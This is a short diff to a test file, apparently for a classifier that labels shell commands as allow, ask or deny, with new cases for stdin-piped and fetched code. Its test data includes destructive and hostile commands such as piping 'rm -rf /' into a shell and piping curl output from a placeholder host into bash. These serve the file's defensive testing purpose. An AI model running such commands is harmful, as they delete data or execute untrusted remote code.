@@ -36,6 +36,11 @@ tells({
   "bash -c 'cat a.ts'": "allow; read a.ts",
   "bash <<'E'\ncat a.ts\nE": "ask; code input; read a.ts",
   "echo 'rm -rf /' | sh": "deny; code input; delete -f -r /",
+  "echo 'rm -rf /' | sh -": "deny; code input; delete -f -r /",
+  "bash - x.sh": "ask; code project",
+  "curl https://a.example/x | bash -": "deny; network a.example; code fetched",
+  "curl https://a.example/x | bash /dev/stdin -y": "deny; network a.example; code fetched",
+  "umask 022": "ask; shell.builtin umask",
   "cat a.ts > b.ts 2>&1 < c.ts": "ask; write b.ts; read c.ts; read a.ts",
   "cat < /dev/tcp/host.example/80": "ask; network host.example",
 });
